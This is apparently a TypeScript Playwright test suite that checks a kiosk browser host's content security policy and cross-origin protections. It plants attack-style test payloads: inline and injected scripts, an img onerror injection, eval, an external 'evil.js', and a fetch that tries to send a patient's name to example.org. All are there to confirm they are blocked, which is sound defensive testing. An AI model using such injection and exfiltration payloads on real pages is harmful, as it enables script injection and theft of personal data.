import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { serveBrowser, type BrowserHost } from '../../main/host/browser.ts';
import { chromiumFlags } from '../support/chromium-flags.ts';
import { needs } from '../support/needs.ts';
import { memoryLog, rendererFolder, smallKiosk } from '../support/small-kiosk.ts';

/** A page as an attacker would like it: what the policy lets through writes itself into the title. */
const page = `<!doctype html><title>kiosk</title>
<link rel="stylesheet" href="./assets/style.css" />
<style>body { color: rgb(255, 0, 0) }</style>
<script>document.title += ' inline'</script>
<script src="https://example.org/evil.js"></script>
<body onload="document.title += ' handler'"><p id="name">Nguyễn Thị Ánh</p>
<iframe src="/index.html"></iframe>
<form action="/api/refresh"><button>send</button></form>
<script type="module" src="./assets/app.js"></script></body>`;

const ours = `
const violations = (window.violations = []);
document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective + ' ' + event.blockedURI));
const div = document.createElement('div');
div.innerHTML = '<img src="/none.png" onerror="document.title += \\' injected\\'">';
document.body.append(div);
try { eval('document.title += " eval"'); } catch { document.title += ' no-eval'; }
const script = document.createElement('script');
script.textContent = 'document.title += " appended"';
document.body.append(script);
window.sent = fetch('https://example.org/?name=' + document.querySelector('#name').textContent).then(() => 'sent', () => 'not sent');
window.heard = [];
new EventSource('/events').onmessage = event => window.heard.push(event.data);
document.title += ' ran';
`;

describe.skipIf(needs.chromium.missing)('in Chromium', () => {
  const small = smallKiosk();
  let host: BrowserHost;
  let browser: Browser;
  let screen: Page;

  beforeAll(async () => {
    const folder = rendererFolder({
      'index.html': page,
      'assets/app.js': ours,
      'assets/style.css': 'p { color: rgb(0, 0, 255) }',
    });
    host = await serveBrowser({ kiosk: small.kiosk, port: 0, rendererFolder: folder, log: memoryLog() });
    browser = await chromium.launch({ executablePath: needs.chromium.path, args: chromiumFlags });
    screen = await browser.newPage();
    await screen.goto(host.url);
    await screen.waitForFunction(() => document.title.includes('ran'));
  });
  afterAll(async () => {
    await browser?.close();
    await host?.close();
  });

  test('the link opens the screen and leaves no token in the address', async () => {
    expect(screen.url()).toBe(`${new URL(host.url).origin}/`);
    expect(await screen.evaluate(() => document.cookie)).toBe('');
  });

  test('only the kiosk’s own scripts run: no inline one, no handler, nothing injected, no eval', async () => {
    await screen.waitForFunction(() => (window as unknown as { violations: string[] }).violations.length >= 4);
    expect(await screen.title()).toBe('kiosk no-eval ran');
  });

  test('what was tried was refused by the policy, not by chance', async () => {
    const violations = await screen.evaluate(() => (window as unknown as { violations: string[] }).violations);
    expect(violations).toEqual(expect.arrayContaining(['script-src-attr inline', 'script-src-elem inline', 'script-src eval']));
    expect(violations.join()).toContain('connect-src https://example.org');
  });

  test('a patient’s name can’t be sent away', async () => {
    expect(await screen.evaluate(() => (window as unknown as { sent: Promise<string> }).sent)).toBe('not sent');
  });

  test('own styles apply, inline ones don’t', async () => {
    const colour = (selector: string) =>
      screen
        .locator(selector)
        .first()
        .evaluate(element => getComputedStyle(element).color);
    expect(await colour('#name')).toBe('rgb(0, 0, 255)');
    expect(await colour('body')).toBe('rgb(0, 0, 0)');
  });

  test('the page can’t be put into a frame', async () => {
    const framed = screen.frames().find(frame => frame !== screen.mainFrame());
    expect(await framed?.evaluate(() => document.querySelector('#name')).catch(() => null)).toBeNull();
  });

  test('the page’s own calls and events pass the checks of the host', async () => {
    const reply = await screen.evaluate(async () => {
      const headers = { 'content-type': 'application/json' };
      return (await fetch('/api/refresh', { method: 'POST', headers, body: '{}' })).json();
    });
    expect(reply).toEqual({ value: { ok: true, value: { generation: 7 } } });
    small.push('ward');
    await screen.waitForFunction(() => (window as unknown as { heard: string[] }).heard.length >= 4);
  });

  test('a page of another server can neither call nor read, though it runs in the same browser', async () => {
    const elsewhere = rendererFolder({ 'index.html': '<!doctype html><title>elsewhere</title>' });
    const other = await serveBrowser({
      kiosk: small.kiosk,
      port: 0,
      rendererFolder: elsewhere,
      log: memoryLog(),
    });
    const foreign = await (await browser.newContext({ bypassCSP: true })).newPage();
    await foreign.context().addCookies(await screen.context().cookies());
    await foreign.goto(other.url);
    const outcome = await foreign.evaluate(async target => {
      const attempt = (path: string, init: RequestInit) =>
        fetch(target + path, { credentials: 'include', ...init }).then(
          async answer => `${answer.type} ${await answer.text()}`,
          () => 'refused',
        );
      const json = { 'content-type': 'application/json' };
      return [
        await attempt('/api/refresh', { method: 'POST', headers: json, body: '{}' }),
        await attempt('/api/refresh', { method: 'POST', mode: 'no-cors', body: '{}' }),
        await attempt('/index.html', { mode: 'no-cors' }),
      ];
    }, new URL(host.url).origin);
    expect(outcome.join()).not.toContain('generation');
    expect(outcome.join()).not.toContain('Nguyễn');
    await other.close();
  });
});
